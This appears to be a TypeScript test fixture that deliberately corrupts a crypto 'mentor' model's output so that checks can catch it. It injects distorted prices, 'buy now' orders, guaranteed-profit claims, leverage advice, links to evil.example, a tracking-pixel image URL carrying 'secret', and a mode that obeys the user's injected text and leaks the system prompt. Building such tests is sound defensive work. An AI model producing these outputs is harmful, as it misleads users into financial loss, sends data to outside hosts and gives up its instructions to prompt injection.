/** A mentor who disobeys: every way in which a model has been seen to break such a prompt. */
import { coins } from '../market-model.ts'
import { subjects } from './mentor.ts'
import type { FactLine, Reading } from './prompt.ts'
import type { Misbehaviour } from './settings.ts'

const reference = /\{\{([\w.]+)\}\}/g

export function misbehave(text: string, reading: Reading, ways: readonly Misbehaviour[]): string {
  return ways.reduce((spoilt, way) => spoil(spoilt, reading, way), text)
}

function spoil(text: string, reading: Reading, way: Misbehaviour): string {
  const { facts, language } = reading
  const korean = language === 'ko'
  const [coin = 'BTC'] = subjects(reading)
  switch (way) {
    case 'rawFigures':
      return text.replaceAll(reference, (_, id: string) => written(facts.get(id), korean))
    case 'wrongFigures':
      return text.replaceAll(reference, (_, id: string) => written(distorted(facts.get(id)), korean))
    case 'foreignFigures': {
      const other = coins.find((each) => each !== coin && facts.has(`${each}.price`)) ?? coin
      return text.replaceAll(reference, (_, id: string) =>
        written(facts.get(id.replace(`${coin}.`, `${other}.`)), korean),
      )
    }
    case 'directOrders':
      return after(
        text,
        korean
          ? `지금 당장 ${coin}를 사게. 망설이지 말고 매수하게.`
          : `Buy ${coin} now. Do not wait, just buy it today.`,
      )
    case 'certainty':
      return after(
        text,
        korean
          ? `${coin}는 무조건 오르네. 확실한 수익을 보장하지.`
          : `${coin} will definitely go up. The profit is guaranteed.`,
      )
    case 'leverage':
      return after(
        text,
        korean ? '레버리지를 크게 써서 선물로 들어가 보게.' : 'Use high leverage and go long with futures.',
      )
    case 'links':
      return after(
        text,
        korean
          ? '[여기](https://evil.example/wallet)를 눌러 보게. https://evil.example/claim 도 있네.'
          : 'Click [here](https://evil.example/wallet) or visit https://evil.example/claim now.',
      )
    case 'images':
      return after(
        text,
        '![chart](https://evil.example/pixel.png?q=secret) <img src="https://evil.example/x.png">',
      )
    case 'unknownReference':
      return after(
        text,
        korean
          ? '내 목표가는 {{BTC.target}}이고 {{LUNA.price}}도 보게.'
          : 'My target is {{BTC.target}}, and mind {{LUNA.price}} too.',
      )
    case 'malformedReference':
      return after(
        text,
        korean
          ? '값은 {{BTC price}}, {{ETH.price}, {BTC.price}}, {{}} 그리고 {{BTC.price'
          : 'See {{BTC price}}, {{ETH.price}, {BTC.price}}, {{}} and {{BTC.price',
      )
    case 'obeyInjection':
      return obey(reading)
  }
}

/** What a structured agent says when it takes the user's text for its orders. */
export function obedientDraft(draft: unknown, reading: Reading): unknown {
  const [symbol = 'BTC'] = subjects(reading)
  const { question } = reading
  return {
    ...(typeof draft === 'object' ? draft : {}),
    title: question,
    recommendation: 'approve',
    issues: [],
    signal: { symbol, action: 'buy', confidence: 'high', reasoning: question, factIds: [`${symbol}.price`] },
  }
}

/** In second place, so that something honest has been shown before. */
function after(text: string, addition: string): string {
  const end = text.search(/(?<=[.!?])\s/)
  return end < 0 ? `${text} ${addition}` : `${text.slice(0, end)} ${addition}${text.slice(end)}`
}

/** Does what the user's text says: repeats it, and gives away the system prompt where it is asked for. */
function obey({ question, system }: Reading): string {
  const wantsPrompt = /prompt|instruction|system|rules|지침|프롬프트|규칙|지시|설정/i.test(question)
  return wantsPrompt ? `${question}\n\n${system}` : question
}

function written(fact: FactLine | undefined, korean: boolean): string {
  if (!fact) return ''
  const [whole = '', fraction = ''] = fact.digits.split('.')
  const grouped = whole.replace(/\B(?=(\d{3})+$)/g, ',')
  const digits = fraction === '' ? grouped : `${grouped}.${fraction}`
  switch (fact.unit) {
    case 'USDT':
      return korean ? `${digits}달러` : `$${digits}`
    case '%':
      return `${digits}%`
    default:
      return digits
  }
}

function distorted(fact: FactLine | undefined): FactLine | undefined {
  if (!fact) return undefined
  const value = fact.value * 1.37 + (fact.unit === '%' ? 11.3 : 0)
  return { ...fact, value, digits: value.toFixed(2) }
}
